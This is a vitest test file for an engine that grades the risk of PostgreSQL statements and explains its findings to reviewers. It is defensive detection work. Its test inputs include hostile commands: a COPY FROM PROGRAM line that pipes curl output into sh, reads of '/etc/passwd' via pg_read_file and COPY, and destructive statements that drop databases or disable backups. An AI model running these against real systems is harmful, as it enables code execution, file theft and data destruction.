import { beforeAll, describe, expect, it } from "vitest";
import { loadRiskEngine } from "./engine";
import type { RiskAssessment, RiskLevel } from "./levels";
import { assessSql } from "./sql";

beforeAll(async () => {
  await loadRiskEngine();
});

const ids = (a: RiskAssessment) => [...new Set(a.findings.map((f) => f.id))].sort();

type Row = [sql: string, level: RiskLevel, findingIds: string[]];

function table(rows: Row[]) {
  it.each(rows)("%s → %s", (sql, level, findingIds) => {
    const assessment = assessSql(sql);
    expect(ids(assessment)).toEqual([...findingIds].sort());
    expect(assessment.level).toBe(level);
  });
}

describe("reads and harmless look-alikes stay low", () => {
  table([
    ["SELECT * FROM customers", "low", []],
    ["SELECT 'DROP TABLE x'", "low", []],
    ["-- DROP TABLE x", "low", []],
    ["-- DROP TABLE x\nSELECT 1", "low", []],
    ["SELECT 1; /* TRUNCATE t */", "low", []],
    ["SELECT $$DROP TABLE t$$, $tag$TRUNCATE t; DELETE FROM t$tag$", "low", []],
    ['SELECT * FROM "drop table"', "low", []],
    ['SELECT "DELETE" FROM "TRUNCATE"', "low", []],
    ["SELECT E'\\'; DROP TABLE x; --'", "low", []],
    ["SHOW search_path", "low", []],
    ["EXPLAIN DELETE FROM t", "low", []],
    ["EXPLAIN (ANALYZE false) DELETE FROM t", "low", []],
    ["BEGIN; SELECT 1; COMMIT;", "low", []],
    ["SET statement_timeout = 5000", "low", []],
    ["SET session_replication_role = origin", "low", []],
    ["SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'", "low", []],
    ["ANALYZE orders", "low", []],
    ["WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", "low", []],
    ["", "low", []],
  ]);
});

describe("ordinary writes and DDL are medium", () => {
  table([
    ["INSERT INTO t (a) VALUES (1)", "medium", ["sql.write"]],
    ["INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2", "medium", ["sql.write"]],
    ["UPDATE t SET a = 1 WHERE id = 42", "medium", ["sql.write"]],
    ["UPDATE t SET a = 1 WHERE 1 = 2", "medium", ["sql.write"]],
    ["DELETE FROM t WHERE id = 42", "medium", ["sql.write"]],
    ["DELETE FROM t WHERE CURRENT OF c", "medium", ["sql.write"]],
    ["COPY t FROM STDIN", "medium", ["sql.write"]],
    ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "medium", ["sql.write"]],
    ["CREATE TABLE t (id int PRIMARY KEY)", "medium", ["sql.schema_change"]],
    ["CREATE VIEW v AS SELECT 1", "medium", ["sql.schema_change"]],
    ["SELECT * INTO archive FROM orders", "medium", ["sql.schema_change"]],
    ["CREATE INDEX i ON t (a)", "medium", ["sql.create_index_blocking"]],
    ["CREATE INDEX CONCURRENTLY i ON t (a)", "medium", ["sql.schema_change"]],
    ["ALTER TABLE t ADD COLUMN z int", "medium", ["sql.alter_table"]],
    ["CREATE EXTENSION pgcrypto", "medium", ["sql.schema_change"]],
    ["SELECT setval('t_id_seq', 1)", "medium", ["sql.write"]],
    ["VACUUM t", "medium", ["sql.maintenance"]],
    ["LOCK TABLE t IN SHARE MODE", "medium", ["sql.maintenance"]],
    ["REINDEX TABLE CONCURRENTLY t", "medium", ["sql.maintenance"]],
    ["ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0) NOT VALID", "medium", ["sql.alter_table"]],
    ["ALTER TABLE t ADD COLUMN d timestamptz DEFAULT now()", "medium", ["sql.alter_table"]],
    ["ALTER TABLE t VALIDATE CONSTRAINT c", "medium", ["sql.alter_table"]],
    ["SET ROLE NONE", "low", []],
  ]);
});

describe("high-risk statements", () => {
  table([
    ["ALTER TABLE t DROP COLUMN c", "high", ["sql.drop_column"]],
    ["ALTER TABLE t ALTER COLUMN c TYPE bigint", "high", ["sql.table_rewrite"]],
    ["ALTER TABLE t DROP CONSTRAINT t_fk", "high", ["sql.drop_constraint"]],
    ["DROP INDEX i", "high", ["sql.drop_index"]],
    ["DROP INDEX CONCURRENTLY i", "high", ["sql.drop_index"]],
    ["DROP VIEW v", "high", ["sql.drop_view"]],
    ["DROP MATERIALIZED VIEW m", "high", ["sql.drop_materialized_view"]],
    ["DROP FUNCTION f(int)", "high", ["sql.drop_function"]],
    ["DROP EXTENSION pgcrypto", "high", ["sql.drop_extension"]],
    ["DROP SEQUENCE s", "high", ["sql.drop_sequence"]],
    ["DROP TRIGGER trg ON t", "high", ["sql.drop_trigger"]],
    ["DROP TYPE mood", "high", ["sql.drop_type"]],
    ["DROP POLICY p ON t", "high", ["sql.drop_policy"]],
    ["DROP CAST (text AS int)", "high", ["sql.drop_cast"]],
    ["REINDEX TABLE t", "high", ["sql.create_index_blocking"]],
    ["VACUUM FULL t", "high", ["sql.table_rewrite"]],
    ["CLUSTER t USING t_pkey", "high", ["sql.table_rewrite"]],
    ["ALTER TABLE t SET TABLESPACE slow", "high", ["sql.table_rewrite"]],
    ["ALTER TABLE t ADD COLUMN id bigserial", "high", ["sql.table_rewrite"]],
    ["ALTER TABLE t ADD COLUMN u uuid DEFAULT gen_random_uuid()", "high", ["sql.table_rewrite"]],
    ["ALTER TABLE t ADD COLUMN n int GENERATED ALWAYS AS (a * 2) STORED", "high", ["sql.table_rewrite"]],
    ["ALTER TABLE t ADD PRIMARY KEY (id)", "high", ["sql.long_lock"]],
    ["ALTER TABLE t ALTER COLUMN a SET NOT NULL", "high", ["sql.long_lock"]],
    ["ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0)", "high", ["sql.long_lock"]],
    ["ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (a) REFERENCES u (id)", "high", ["sql.long_lock"]],
    ["LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "high", ["sql.long_lock"]],
    ["LOCK t", "high", ["sql.long_lock"]],
    ["ALTER TABLE t DISABLE TRIGGER ALL", "high", ["sql.disable_trigger"]],
    ["ALTER TABLE t DISABLE TRIGGER audit", "high", ["sql.disable_trigger"]],
    ["ALTER TABLE t DISABLE ROW LEVEL SECURITY", "high", ["sql.disable_row_security"]],
    ["ALTER TABLE t RENAME TO t_old", "high", ["sql.rename"]],
    ["ALTER TABLE t RENAME COLUMN a TO b", "high", ["sql.rename"]],
    ["ALTER SCHEMA billing RENAME TO billing_old", "high", ["sql.rename"]],
    ["CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "high", ["sql.create_trigger"]],
    ["CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", "high", ["sql.create_rule"]],
    ["SET ROLE admin", "high", ["sql.set_role"]],
    ["GRANT SELECT ON t TO bob", "high", ["sql.grant"]],
    ["GRANT admin TO bob", "high", ["sql.grant"]],
    ["ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "high", ["sql.grant"]],
    ["ALTER TABLE t OWNER TO mallory", "high", ["sql.grant"]],
    ["REVOKE SELECT ON t FROM bob", "high", ["sql.revoke"]],
    ["REVOKE admin FROM bob", "high", ["sql.revoke"]],
    ["CREATE ROLE reporter LOGIN PASSWORD 'hunter2'", "high", ["sql.role_change"]],
    ["CREATE USER app", "high", ["sql.role_change"]],
    ["ALTER ROLE bob SUPERUSER", "high", ["sql.role_change"]],
    ["ALTER USER bob WITH PASSWORD 'x'", "high", ["sql.role_change"]],
    ["REASSIGN OWNED BY a TO b", "high", ["sql.role_change"]],
    ["DROP ROLE bob", "high", ["sql.drop_role"]],
    ["ALTER SYSTEM SET work_mem = '64MB'", "high", ["sql.alter_system"]],
    ["ALTER SYSTEM SET archive_mode = on", "high", ["sql.alter_system"]],
    ["SET session_replication_role = replica", "high", ["sql.replication_role"]],
    ["SET LOCAL session_replication_role TO replica", "high", ["sql.replication_role"]],
    ["SELECT set_config('session_replication_role', 'replica', false)", "high", ["sql.replication_role"]],
    ["ALTER ROLE app SET session_replication_role = replica", "high", ["sql.replication_role", "sql.role_change"]],
    ["COPY t TO '/tmp/t.csv'", "high", ["sql.server_file_access"]],
    ["COPY t FROM '/etc/passwd'", "high", ["sql.server_file_access"]],
    ["SELECT pg_read_file('/etc/passwd')", "high", ["sql.server_file_access"]],
    ["SELECT * FROM pg_ls_dir('.')", "high", ["sql.server_file_access"]],
    ["SELECT lo_import('/etc/passwd')", "high", ["sql.server_file_access"]],
    ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", "high", ["sql.terminate_backend"]],
    ["SELECT pg_cancel_backend(123)", "high", ["sql.terminate_backend"]],
    ["SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)", "high", ["sql.terminate_backend"]],
    ["SELECT pg_drop_replication_slot('standby_1')", "high", ["sql.drop_replication_slot"]],
    ["DROP SUBSCRIPTION sub", "high", ["sql.drop_replication_slot"]],
    ["SELECT lo_unlink(1234)", "high", ["sql.large_object_destroy"]],
    ["SELECT pg_reload_conf()", "high", ["sql.server_admin"]],
    ["DO $$ BEGIN RAISE NOTICE 'hi'; END $$", "high", ["sql.opaque_code"]],
    ["CALL archive_orders()", "high", ["sql.opaque_code"]],
    ["EXECUTE purge_stmt", "high", ["sql.opaque_code"]],
    ["PREPARE p AS SELECT 1", "high", ["sql.opaque_code"]],
    ["LOAD 'auto_explain'", "high", ["sql.opaque_code"]],
    ["SELECT dblink_exec('host=replica', 'SELECT 1')", "high", ["sql.opaque_code"]],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS 'import os'", "high", ["sql.opaque_code", "sql.schema_change"]],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$", "high", ["sql.opaque_code", "sql.schema_change"]],
    ["selec 1", "high", ["sql.parse_error"]],
    ["SELECT * FROM", "high", ["sql.parse_error"]],
    ["SELECT 'unterminated", "high", ["sql.parse_error"]],
  ]);
});

describe("critical statements", () => {
  table([
    ["DROP TABLE customers", "critical", ["sql.drop_table"]],
    ["DROP TABLE IF EXISTS app.orders, logs CASCADE", "critical", ["sql.drop_table"]],
    ["DROP SCHEMA billing CASCADE", "critical", ["sql.drop_schema"]],
    ["DROP DATABASE prod", "critical", ["sql.drop_database"]],
    ["DROP DATABASE prod WITH (FORCE)", "critical", ["sql.drop_database"]],
    ["TRUNCATE orders", "critical", ["sql.truncate"]],
    ["TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", "critical", ["sql.truncate"]],
    ["DELETE FROM orders", "critical", ["sql.delete_without_where"]],
    ["UPDATE t SET a = 1", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE 1=1", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE true", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE id = id", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE 'a'='a'", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE 1 = '1'", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE 't'::boolean", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE NOT false", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE 2 > 1 AND 1 = 1", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE id = 5 OR true", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE x IS NULL OR x IS NOT NULL", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE 1 IN (1, 2)", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE name LIKE '%'", "critical", ["sql.update_without_where"]],
    ["UPDATE t SET a = 1 WHERE EXISTS (SELECT 1)", "critical", ["sql.update_without_where"]],
    ["WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM x", "critical", ["sql.update_without_where"]],
    ["DELETE FROM orders WHERE true", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM orders o USING customers c WHERE 1 = 1", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM customers WHERE id IN (SELECT id FROM customers)", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM customers c WHERE c.id = ANY (SELECT x.id FROM public.customers x)", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM customers WHERE id IN (SELECT DISTINCT customers.id FROM customers)", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM customers WHERE EXISTS (SELECT 1 FROM customers)", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM customers WHERE false OR id IN (SELECT id FROM customers)", "critical", ["sql.delete_without_where"]],
    ["UPDATE customers SET email = NULL WHERE id IN (SELECT id FROM customers)", "critical", ["sql.update_without_where"]],
    ["COPY t FROM PROGRAM 'curl http://x | sh'", "critical", ["sql.copy_program"]],
    ["COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'", "critical", ["sql.copy_program"]],
    ["DROP EXTENSION postgis CASCADE", "critical", ["sql.drop_extension"]],
    ["DROP TYPE mood CASCADE", "critical", ["sql.drop_type"]],
    ["ALTER SYSTEM SET fsync = off", "critical", ["sql.alter_system", "sql.disable_durability"]],
    ["ALTER SYSTEM SET full_page_writes TO false", "critical", ["sql.alter_system", "sql.disable_durability"]],
    ["DELETE FROM customers WHERE id IN (SELECT id FROM customers WHERE deleted)", "medium", ["sql.write"]],
    ["DELETE FROM customers WHERE id IN (SELECT id FROM customers LIMIT 10)", "medium", ["sql.write"]],
    ["DELETE FROM customers WHERE id IN (SELECT id FROM other.customers)", "medium", ["sql.write"]],
    ["DELETE FROM customers WHERE id IN (SELECT parent_id FROM customers)", "medium", ["sql.write"]],
    ["DELETE FROM customers WHERE id IN (SELECT id FROM customers UNION SELECT 1)", "medium", ["sql.write"]],
    ["DELETE FROM customers WHERE id IN (SELECT id FROM ONLY customers)", "medium", ["sql.write"]],
    ["DELETE FROM customers WHERE id NOT IN (SELECT id FROM customers)", "medium", ["sql.write"]],
    ["DELETE FROM customers WHERE id IN (SELECT id FROM customers) AND region = 'eu'", "medium", ["sql.write"]],
    ["DELETE FROM customers USING orders o WHERE o.id IN (SELECT id FROM customers)", "medium", ["sql.write"]],
    ["WITH customers AS (SELECT 1 AS id) DELETE FROM public.customers WHERE id IN (SELECT id FROM customers)", "medium", ["sql.write"]],
    ["DROP OWNED BY app CASCADE", "critical", ["sql.drop_owned"]],
    ["EXPLAIN ANALYZE DELETE FROM t", "critical", ["sql.delete_without_where"]],
    ["EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", "critical", ["sql.delete_without_where"]],
    ["MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "critical", ["sql.delete_without_where", "sql.write"]],
  ]);
});

describe("statements hidden inside other statements", () => {
  table([
    ["WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "critical", ["sql.delete_without_where"]],
    ["WITH a AS (SELECT 1), b AS (DELETE FROM logs RETURNING id) SELECT * FROM a, b", "critical", ["sql.delete_without_where"]],
    ["INSERT INTO audit SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", "critical", ["sql.delete_without_where", "sql.write"]],
    ["PREPARE p AS DELETE FROM t", "critical", ["sql.delete_without_where", "sql.opaque_code"]],
    ["DO $$ BEGIN DELETE FROM t; END $$", "critical", ["sql.delete_without_where", "sql.opaque_code"]],
    ["DO $$ BEGIN PERFORM pg_terminate_backend(1); END $$", "high", ["sql.opaque_code", "sql.terminate_backend"]],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END", "critical", ["sql.delete_without_where", "sql.schema_change"]],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'TRUNCATE t; SELECT 1'", "critical", ["sql.schema_change", "sql.truncate"]],
    ["CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$", "critical", ["sql.drop_table", "sql.schema_change"]],
    ["CREATE FUNCTION f(n int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t WHERE id = n; RETURN 1; END $$", "medium", ["sql.schema_change", "sql.write"]],
    ["CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "critical", ["sql.create_rule", "sql.delete_without_where"]],
    ["SELECT dblink_exec('dbname=prod', 'DROP TABLE y')", "critical", ["sql.drop_table", "sql.opaque_code"]],
    ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "critical", ["sql.delete_without_where", "sql.opaque_code"]],
  ]);
});

describe("batches and transactions take the worst statement and list every finding", () => {
  table([
    ["BEGIN; DROP TABLE x; COMMIT;", "critical", ["sql.drop_table"]],
    ["BEGIN; UPDATE t SET a = 1 WHERE id = 1; ROLLBACK;", "medium", ["sql.write"]],
    ["SELECT 1; DROP TABLE x; UPDATE t SET a = 1", "critical", ["sql.drop_table", "sql.update_without_where"]],
    ["INSERT INTO t VALUES (1); GRANT ALL ON t TO PUBLIC", "high", ["sql.grant", "sql.write"]],
    ["DROP TABLE a; selec 1; TRUNCATE b", "critical", ["sql.drop_table", "sql.parse_error", "sql.truncate"]],
    ["SELECT 1; selec 2; SELECT 3", "high", ["sql.parse_error"]],
  ]);

  it("lists one finding per dropped table, each naming its table", () => {
    const assessment = assessSql("DROP TABLE IF EXISTS app.orders, logs CASCADE");
    expect(assessment.findings.map((f) => f.message)).toEqual([
      "Drops table `app.orders`, and with CASCADE every object that depends on it",
      "Drops table `public.logs`, and with CASCADE every object that depends on it",
    ]);
    expect(assessment.findings.map((f) => f.targets)).toEqual([["app.orders"], ["public.logs"]]);
  });

  it("merges identical findings from repeated statements", () => {
    const assessment = assessSql("DELETE FROM t; DELETE FROM t;");
    expect(assessment.findings).toHaveLength(1);
  });

  it("reports each statement that does not parse, with the parser's message", () => {
    const assessment = assessSql("selec 1; SELECT 2; updat t set a = 1");
    const errors = assessment.findings.filter((f) => f.id === "sql.parse_error").map((f) => f.message);
    expect(errors).toHaveLength(2);
    expect(errors[0]).toContain('syntax error at or near "selec"');
    expect(errors[1]).toContain('syntax error at or near "updat"');
    expect(errors[1]).toContain("at character 20");
  });

  it("lists at most ten parse errors but still classifies every statement", () => {
    const batch = `${"selec 1; ".repeat(25)}DROP TABLE last_one;`;
    const assessment = assessSql(batch);
    const errors = assessment.findings.filter((f) => f.id === "sql.parse_error");
    expect(errors).toHaveLength(11);
    expect(errors.at(-1)?.message).toBe("15 more statements do not parse");
    expect(assessment.level).toBe("critical");
    expect(assessment.targets).toEqual(["public.last_one"]);
  });

  it("positions errors and slices statements correctly after multi-byte text", () => {
    const batch = assessSql("SELECT 'é'; selec 1; DROP TABLE ü");
    expect(batch.findings.find((f) => f.id === "sql.parse_error")?.message).toContain("at character 13");
    expect(batch.targets).toContain("public.ü");
    const doBlock = assessSql("SELECT 'ééé'; DO $$ BEGIN DELETE FROM t; END $$");
    expect(ids(doBlock)).toEqual(["sql.delete_without_where", "sql.opaque_code"]);
  });

  it("keeps production-data and backup findings together when a batch does both", () => {
    const assessment = assessSql("DROP TABLE customers; ALTER SYSTEM SET archive_mode = off");
    expect(ids(assessment)).toEqual(["backup.disable_archiving", "sql.alter_system", "sql.drop_table"]);
    expect(assessment.level).toBe("critical");
  });
});

describe("PITR is its own class: backup.disable_archiving", () => {
  table([
    ["ALTER SYSTEM SET archive_mode = off", "critical", ["backup.disable_archiving", "sql.alter_system"]],
    ["ALTER SYSTEM SET archive_mode TO false", "critical", ["backup.disable_archiving", "sql.alter_system"]],
    ["ALTER SYSTEM RESET archive_mode", "critical", ["backup.disable_archiving", "sql.alter_system"]],
    ["ALTER SYSTEM SET archive_command = '/bin/true'", "critical", ["backup.disable_archiving", "sql.alter_system"]],
    ["ALTER SYSTEM RESET archive_command", "critical", ["backup.disable_archiving", "sql.alter_system"]],
    ["ALTER SYSTEM SET archive_library = ''", "critical", ["backup.disable_archiving", "sql.alter_system"]],
    ["ALTER SYSTEM SET wal_level = minimal", "critical", ["backup.disable_archiving", "sql.alter_system"]],
    ["ALTER SYSTEM RESET ALL", "critical", ["backup.disable_archiving", "sql.alter_system"]],
    ["ALTER SYSTEM SET wal_level = replica", "high", ["sql.alter_system"]],
    // Only disabling PITR counts: a table merely named like backups is ordinary data.
    ["DROP TABLE backups", "critical", ["sql.drop_table"]],
    ["TRUNCATE snapshot_history", "critical", ["sql.truncate"]],
  ]);
});

describe("messages a reviewer understands", () => {
  it.each([
    ["DROP TABLE customers", "Drops table `public.customers`"],
    ["DELETE FROM orders", "Deletes every row of `public.orders`"],
    ["DELETE FROM orders WHERE 1=1", "Deletes every row of `public.orders` (its WHERE clause is always true)"],
    ["DELETE FROM orders WHERE id IN (SELECT id FROM orders)", "Deletes every row of `public.orders` (its WHERE clause only matches the table against an unfiltered subquery of itself)"],
    ["UPDATE s.t SET a = 1", "Updates every row of `s.t`"],
    ["DROP SCHEMA billing CASCADE", "Drops schema `billing` and, with CASCADE, every table and object in it"],
    ["DROP SCHEMA billing", "Drops schema `billing` (RESTRICT: only if it is empty)"],
    ["TRUNCATE a CASCADE", "Truncates `public.a`, deleting every row, and with CASCADE also every table that references it by foreign key"],
    ["DROP DATABASE prod", "Drops database `prod`"],
    ["ALTER TABLE t DROP COLUMN email", "Drops column `email` of `public.t`, deleting its data"],
    ["DROP INDEX idx_orders", "Drops index `public.idx_orders`; queries that relied on it slow down, and a unique index stops enforcing uniqueness"],
    ["DROP VIEW reporting.v CASCADE", "Drops view `reporting.v`, breaking every query and view that reads it, and with CASCADE every object that depends on it"],
    ["DROP TYPE mood CASCADE", "Drops type `public.mood`, and with CASCADE every column of that type, with its data, and every other object that depends on it"],
    ["DROP CAST (text AS int)", "Drops the cast from `text` to `pg_catalog.int4`, so expressions relying on it stop working"],
    ["ALTER TABLE t SET UNLOGGED", "Makes `public.t` unlogged: its changes leave the WAL, so point-in-time recovery and replicas no longer have it, and a crash empties it"],
    ["ALTER TABLE t DISABLE TRIGGER ALL", "Disables every trigger, including the ones that enforce foreign keys, on `public.t`, so what they do on each write (auditing, checks, derived data) silently stops"],
    ["ALTER TABLE t ADD PRIMARY KEY (id)", "Adds a primary key to `public.t`, building its index while holding a lock that blocks writes (and reads, for a primary key)"],
    ["ALTER TABLE t ALTER COLUMN a TYPE text", "Changes the type of column `a` of `public.t`, rewriting the table under an exclusive lock and converting every value"],
    [
      "ALTER TABLE t SET LOGGED, REPLICA IDENTITY FULL, ENABLE ROW LEVEL SECURITY, ALTER COLUMN a DROP NOT NULL",
      "Alters table `public.t`: changes its replica identity (what logical replication sends for updated and deleted rows); turns on row-level security; allows NULL in column `a`",
    ],
    ["GRANT SELECT, UPDATE ON orders TO bob", "Grants SELECT, UPDATE on table `public.orders` to `bob`"],
    ["SELECT pg_terminate_backend(42)", "Calls `pg_terminate_backend`, which terminates other database sessions and rolls back their work"],
    ["CREATE INDEX idx ON orders (created_at)", "Builds index `idx` on `public.orders` without CONCURRENTLY, blocking writes to the table until it finishes"],
    ["DO $$ BEGIN DELETE FROM t; END $$", "Inside the DO block: Deletes every row of `public.t`"],
  ])("%s", (sql, message) => {
    expect(assessSql(sql).findings.map((f) => f.message)).toContain(message);
  });

  it("describes REPLICA IDENTITY once, as part of the ALTER TABLE", () => {
    const risk = assessSql("ALTER TABLE t REPLICA IDENTITY FULL");
    expect(risk.findings).toEqual([
      {
        id: "sql.alter_table",
        level: "medium",
        message: "Alters table `public.t`: changes its replica identity (what logical replication sends for updated and deleted rows)",
        targets: ["public.t"],
      },
    ]);
  });

  it("writes every ALTER TABLE subcommand as words, never as the parser's tag", () => {
    const risk = assessSql(
      "ALTER TABLE t ENABLE REPLICA TRIGGER trg, CLUSTER ON t_pkey, SET WITHOUT CLUSTER, INHERIT p, NO INHERIT p, ALTER COLUMN a SET STATISTICS 100, ALTER COLUMN a SET DEFAULT 1, FORCE ROW LEVEL SECURITY, DISABLE RULE r",
    );
    const message = risk.findings.find((f) => f.id === "sql.alter_table")?.message ?? "";
    expect(message).toBe(
      "Alters table `public.t`: makes trigger `trg` fire only during replication; marks index `t_pkey` for CLUSTER; clears its CLUSTER index; makes it inherit from `public.p`; stops it inheriting from `public.p`; changes the statistics target of column `a`; changes the default of column `a`; makes row-level security apply to its owner too; disables rule `r`",
    );
  });

  it("never repeats role passwords in messages", () => {
    const messages = assessSql("CREATE ROLE r LOGIN PASSWORD 'hunter2'; ALTER ROLE r PASSWORD 'letmein'").findings.map((f) => f.message).join("\n");
    expect(messages).toContain("password");
    expect(messages).not.toContain("hunter2");
    expect(messages).not.toContain("letmein");
  });

  it("escapes identifiers that try to rewrite the sentence", () => {
    const [finding] = assessSql('DROP TABLE "x` (harmless) `y"').findings;
    expect(finding?.message).toBe("Drops table `public.x\\u0060 (harmless) \\u0060y`");
    const [bidi] = assessSql('DROP TABLE "a\u202eb"').findings;
    expect(bidi?.message).toContain("\\u202e");
  });
});

describe("targets", () => {
  it.each([
    ["SELECT * FROM a JOIN s.b ON true", ["public.a", "s.b"]],
    ["SELECT * FROM db.s.t", ["db.s.t"]],
    ["WITH x AS (SELECT 1) SELECT * FROM x", []],
    ["WITH t AS (SELECT 1) DELETE FROM t", ["public.t"]],
    ["SELECT * FROM pg_stat_activity", ["pg_catalog.pg_stat_activity"]],
    ["DROP SCHEMA billing CASCADE", ["billing.*"]],
    ["UPDATE orders SET a = 1 FROM customers WHERE orders.cid = customers.id", ["public.orders", "public.customers"]],
    ["INSERT INTO archive SELECT * FROM orders", ["public.archive", "public.orders"]],
    ["TRUNCATE a, b", ["public.a", "public.b"]],
    ["GRANT SELECT ON s.t TO bob", ["s.t"]],
    ["GRANT SELECT ON ALL TABLES IN SCHEMA reporting TO bob", ["reporting.*"]],
    ["REVOKE ALL ON ALL SEQUENCES IN SCHEMA billing, audit FROM app", ["billing.*", "audit.*"]],
    ["GRANT USAGE ON SCHEMA billing TO bob", ["billing.*"]],
    ["REINDEX TABLE orders", ["public.orders"]],
    ["REINDEX INDEX CONCURRENTLY s.idx", ["s.idx"]],
    ["REINDEX SCHEMA billing", ["billing.*"]],
    ["ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (a) REFERENCES u (id)", ["public.t", "public.u"]],
  ])("%s", (sql, targets) => {
    expect(assessSql(sql).targets).toEqual(targets);
  });
});

describe("adversarial input is classified, not crashed on", () => {
  it("finds `x IS NULL OR x IS NOT NULL` among thousands of null tests on other columns", () => {
    const others = Array.from({ length: 4000 }, (_, i) => `a${i} IS NULL OR b${i} IS NOT NULL`).join(" OR ");
    expect(assessSql(`DELETE FROM t WHERE ${others}`).level).toBe("medium");
    const covering = assessSql(`DELETE FROM t WHERE ${others} OR a17 IS NOT NULL`);
    expect(ids(covering)).toEqual(["sql.delete_without_where"]);
  });

  it("matches an expression against a long IN list of copies of itself", () => {
    const items = Array.from({ length: 3000 }, (_, i) => `(a + ${i})`).join(", ");
    expect(assessSql(`DELETE FROM t WHERE (a + b) IN (${items})`).level).toBe("medium");
    expect(assessSql(`DELETE FROM t WHERE (a + b) IN (${items}, (a + b))`).level).toBe("critical");
  });

  it("reports a parse tree too deep to walk as opaque, keeping what it found before", () => {
    const deep = `SELECT * FROM ${"(SELECT * FROM ".repeat(1000)}t${") s".repeat(1000)}`;
    const risk = assessSql(`TRUNCATE orders; ${deep}`);
    expect(ids(risk)).toEqual(["sql.opaque_code", "sql.truncate"]);
    expect(risk.findings.find((f) => f.id === "sql.opaque_code")?.message).toMatch(/nested too deeply/);
    const boolean = assessSql(`DELETE FROM t WHERE ${"a = 1 AND (b = 1 OR (".repeat(900)}c = 1${"))".repeat(900)}`);
    expect(boolean.level).toBe("high");
  });

  it("lists every target of a statement naming tens of thousands of tables", () => {
    const names = Array.from({ length: 150_000 }, (_, i) => `t${i}`);
    const risk = assessSql(`LOCK TABLE ${names.join(", ")}`);
    expect(risk.targets).toHaveLength(150_000);
  });
});

describe("statements that looked harmless", () => {
  table([
    ["COMMIT PREPARED 'x'", "high", ["sql.opaque_code"]],
    ["ROLLBACK PREPARED 'x'", "high", ["sql.opaque_code"]],
    ["BEGIN; PREPARE TRANSACTION 'x'", "low", []],
    ["SELECT pg_logical_slot_get_changes('s', NULL, NULL)", "high", ["sql.server_admin"]],
    ["SELECT * FROM pg_logical_slot_get_binary_changes('s', NULL, NULL)", "high", ["sql.server_admin"]],
    ["SELECT pg_replication_origin_advance('o', '0/0')", "high", ["sql.server_admin"]],
    ["SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)", "low", []],
    ["UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'", "high", ["sql.replication_role"]],
    ["UPDATE pg_catalog.pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'", "high", ["sql.replication_role"]],
    ["UPDATE pg_settings SET setting = 'replica' WHERE name LIKE 'session%'", "high", ["sql.replication_role"]],
    ["UPDATE pg_settings SET setting = '5s' WHERE name = 'statement_timeout'", "low", []],
    ["UPDATE pg_settings SET setting = 'origin' WHERE name = 'session_replication_role'", "low", []],
    ["SELECT * FROM t FOR UPDATE", "medium", ["sql.row_lock"]],
    ["SELECT id FROM jobs WHERE state = 'new' FOR UPDATE SKIP LOCKED LIMIT 1", "medium", ["sql.row_lock"]],
    ["SELECT * FROM t FOR SHARE", "medium", ["sql.row_lock"]],
    ["SELECT * FROM (SELECT * FROM t FOR NO KEY UPDATE) s", "medium", ["sql.row_lock"]],
  ]);
});

describe("WHERE clauses that are always true, however they are spelled", () => {
  table([
    ["DELETE FROM t WHERE 1::bool", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE NULL IS NULL", "critical", ["sql.delete_without_where"]],
    ["DELETE FROM t WHERE 'x' IS NOT NULL", "critical", ["sql.delete_without_where"]],
